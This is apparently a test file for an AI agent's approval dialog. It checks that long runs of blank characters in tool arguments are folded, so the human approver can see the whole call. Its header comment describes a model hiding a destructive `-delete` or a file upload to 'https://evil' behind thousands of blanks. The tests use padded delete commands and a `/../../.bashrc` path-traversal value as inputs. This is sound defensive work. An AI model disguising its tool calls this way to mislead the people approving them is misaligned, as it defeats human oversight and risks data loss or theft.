// The approval dialog (desktop and browser mode) must show what will run (docs/security.md, "What the person
// sees"). Its arguments box wraps long text and scrolls past 320 px; a model that put thousands of blanks before
// the dangerous end of an argument (`find . -name '*.tmp'` … `-delete`, a URL … `-d @notes.txt https://evil`)
// showed the person a harmless call followed by empty space, with the rest far below the fold. Runs of blanks are
// now shown folded, saying how many there are, so the end of the argument sits next to its start (runs shorter
// than 64, as real indentation is, are kept).
import fs from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import type { ApprovalItemView, DialogEvent } from '../../preload/contract';
import { gateFixture } from '../gate/testing/gate-fixture';
import { DialogHub } from './dialog-hub';

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) fs.rmSync(dir, { recursive: true, force: true });
});

// Asks through a real DialogHub and the real gate; returns the item the dialog showed, after denying it.
async function shown(name: string, args: Record<string, unknown>): Promise<ApprovalItemView> {
  const events: DialogEvent[] = [];
  const hub = new DialogHub({ redact: (text) => text, chatTitle: () => 'chat', notice: () => {} });
  hub.attach({ present: (event) => events.push(event) });
  const f = gateFixture({ prompter: hub.approvalPrompter(), sandbox: 'sandboxed' });
  dirs.push(f.home, f.dir);
  const outcome = f.dispatcher.dispatch(
    { id: 'c1', name, args },
    { chatId: 'chat', workspace: '/home/ann/repo' },
  );
  let item: ApprovalItemView | undefined;
  while (!item) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    const dialog = hub.pending().find((d) => d.kind === 'approval');
    if (dialog?.kind !== 'approval') continue;
    item = dialog.items[0];
    await hub.answerApproval(dialog.id, 0, { kind: 'deny' });
  }
  expect((await outcome).outcome).toBe('denied');
  expect(f.runs).toEqual([]);
  return item;
}

// Blank characters a browser draws as empty space (pre-wrap keeps every one): spaces, tabs, no-break and
// typographic spaces, the ideographic space, Hangul fillers, the braille blank.
const BLANKS: Array<[string, string]> = [
  ['spaces', ' '],
  ['tabs', '\t'],
  ['no-break spaces', '\u00a0'],
  ['ideographic spaces', '\u3000'],
  ['em spaces', '\u2003'],
  ['Hangul fillers', '\u3164'],
  ['braille blanks', '\u2800'],
];

const LONG_BLANK_RUN = /[ \t\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000\u3164\u2800\uffa0\u115f\u1160]{64,}/u;

describe('the approval dialog folds runs of blanks', () => {
  it.each(BLANKS)('%s before the end of a command line', async (_what, blank) => {
    const command = `find . -name '*.tmp'${blank.repeat(6000)}-delete`;
    const item = await shown('run_command', { command });
    expect(item.args).not.toMatch(LONG_BLANK_RUN);
    expect(item.args).toMatch(/find \. -name '\*\.tmp'.{0,60}6,000 blank characters.{0,60}-delete/u);
  });

  it('blanks in another argument (a path) are folded too, and short runs are kept as they are', async () => {
    const item = await shown('write_note', {
      path: `notes.md${' '.repeat(3000)}/../../.bashrc`,
      content: 'a  b',
    });
    expect(item.args).not.toMatch(LONG_BLANK_RUN);
    expect(item.args).toContain('3,000 blank characters');
    expect(item.args).toContain('/../../.bashrc');
    expect(item.args).toContain('"content": "a  b"');
  });
});
